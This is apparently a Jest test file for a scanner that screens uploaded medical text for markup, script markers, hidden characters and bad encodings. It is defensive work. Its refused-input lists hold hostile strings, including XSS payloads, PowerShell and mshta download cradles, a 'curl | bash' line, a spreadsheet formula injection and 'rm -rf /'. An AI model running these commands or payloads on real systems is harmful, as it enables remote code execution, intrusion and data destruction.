import { scan } from '../../../../functions/domain/record-checks/scanner.js';
import { TextScanner } from '../../../../functions/domain/record-checks/text.js';

/** The text checks' verdict for content arriving in the given pieces: undefined when it passes. */
async function textRefusal(...pieces: Array<string | Uint8Array>) {
  const chunks = pieces.map((p) => (typeof p === 'string' ? Buffer.from(p, 'utf8') : p));
  return (await scan(new TextScanner(), chunks))?.code;
}

describe('TextScanner: medical text passes', () => {
  it.each([
    'BP < 120/80 mmHg; HR 72',
    'Staging: T2 N1 M0 (AJCC 8th ed.)',
    'HIV RNA <LOD; CD4 >500 cells/uL',
    'Ki-67 <20%, ER >90%, p <0.05',
    'Creatinine <ULN and ALT >3x ULN',
    'Tumour size <5 mm -> follow up; margins >2 mm',
    'See the attached document. Cardiac eval (echo) pending.',
    'Contact: Dr. A. Rivera <rivera@example.org>, https://example.org/guidelines',
    'Plan: re-evaluate in 3 months; function preserved.',
    'Résumé: carcinome canalaire infiltrant, grade 2 — sein gauche',
    '乳腺浸润性导管癌 2级',
    'Tabs\tand\r\nWindows line ends\fand form feeds',
  ])('%s', async (text) => {
    expect(await textRefusal(text)).toBeUndefined();
  });

  it('passes a UTF-8 byte-order mark at the very start', async () => {
    expect(await textRefusal('\ufeffLab results: normal')).toBeUndefined();
  });

  it('passes a character split across two chunks', async () => {
    const bytes = Buffer.from('grade 2 — sein', 'utf8');
    const dash = bytes.indexOf(0xe2);
    expect(await textRefusal(bytes.subarray(0, dash + 1), bytes.subarray(dash + 1))).toBeUndefined();
  });
});

describe('TextScanner: markup is refused', () => {
  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//x>',
    '<html>',
    '<svg onload=alert(1)>',
    '<iframe src="//x">',
    '<object data=x>',
    '<?xml version="1.0"?>',
    '<!DOCTYPE html>',
    '<!-- hidden -->',
    '<hta:application id=x>',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">results</a>',
    '<p>Results</p>',
    '</div>',
    '<x-frame src=x>',
    '<html:script>',
    'javascript:alert(1)',
    'data:text/html;base64,PHNjcmlwdD4=',
  ])('%s', async (markup) => {
    expect(await textRefusal(`Lab results\n${markup}\n`)).toBe('text-markup');
  });
});

describe('TextScanner: script markers are refused', () => {
  it.each([
    '#!/usr/bin/env python3\nimport os',
    '@echo off',
    'cmd /c calc',
    'cmd.exe /k whoami',
    "=cmd|' /C calc'!A0",
    'powershell -nop -w hidden',
    'Invoke-Expression $payload',
    'IEX(New-Object Net.WebClient).DownloadString("x")',
    '$x | iex',
    'pwsh -EncodedCommand SQBFAFgA',
    'Start-Process calc',
    'Set o = CreateObject("WScript.Shell")',
    'var x = new ActiveXObject("MSXML2.XMLHTTP")',
    'On Error Resume Next',
    'mshta http://203.0.113.9/payload.hta',
    'rundll32 shell32.dll,ShellExec_RunDLL calc',
    'certutil -urlcache -f http://x x.exe',
    'eval(atob("YWxlcnQoMSk="))',
    'new Function("return this")()',
    'function run(a) { return a }',
    'document.write(x)',
    'window.location = "http://x"',
    'String.fromCharCode(97)',
    "require('child_process').exec('id')",
    'curl -s http://x/i | bash',
    'bash -c "id"',
    'rm -rf /',
    'chmod +x ./x',
    '<% Response.Write("x") %>',
  ])('%s', async (script) => {
    expect(await textRefusal(script.startsWith('#!') ? script : `Notes\n${script}\n`)).toBe('text-script');
  });

  it('refuses a shebang after a byte-order mark', async () => {
    expect(await textRefusal('\ufeff#!/bin/sh\nid')).toBe('text-script');
  });
});

describe('TextScanner: the whole file is read, not its head', () => {
  const filler = 'Lab results: CBC within normal limits.\n'.repeat(60_000); // ~2.3 MB

  it('refuses a script marker past the first megabytes', async () => {
    expect(await textRefusal(filler, `${filler}@echo off\n`)).toBe('text-script');
  });

  it('refuses markup cut in two by a chunk boundary', async () => {
    expect(await textRefusal(`${filler}<scr`, 'ipt>alert(1)</script>')).toBe('text-markup');
  });

  it('refuses a marker that arrives one byte at a time', async () => {
    const bytes = Buffer.from('ok\n<svg onload=alert(1)>', 'utf8');
    expect(await textRefusal(...Array.from(bytes, (b) => Uint8Array.of(b)))).toBe('text-markup');
  });
});

describe('TextScanner: text that is not plain', () => {
  it.each([
    ['NUL', 'a\u0000b'],
    ['BEL', 'a\u0007b'],
    ['vertical tab', 'a\u000bb'],
    ['ESC (terminal escapes)', 'a\u001b[2Jb'],
    ['DEL', 'a\u007fb'],
  ])('refuses a %s as binary', async (_, text) => {
    expect(await textRefusal(text)).toBe('not-allowed-type');
  });

  it.each([
    ['a right-to-left override', 'Diagnosis: \u202ebenign\u202c'],
    ['a left-to-right embedding', 'a\u202ab'],
    ['a first-strong isolate', 'a\u2068b\u2069'],
    ['a C1 control', 'a\u0085b'],
    ['a byte-order mark past the start', 'Lab\ufeffresults'],
  ])('refuses %s as hidden characters', async (_, text) => {
    expect(await textRefusal(text)).toBe('text-hidden-characters');
  });

  it('refuses Latin-1 text (not UTF-8) as an encoding to change', async () => {
    expect(await textRefusal(Buffer.from('Résumé', 'latin1'))).toBe('text-encoding');
  });

  it('refuses UTF-16 text as an encoding to change', async () => {
    expect(await textRefusal(Buffer.from('\ufeffLab results', 'utf16le'))).toBe('text-encoding');
  });

  it('refuses a character cut off at the end of the file', async () => {
    expect(await textRefusal(Buffer.from('grade 2 —', 'utf8').subarray(0, -1))).toBe('text-encoding');
  });
});
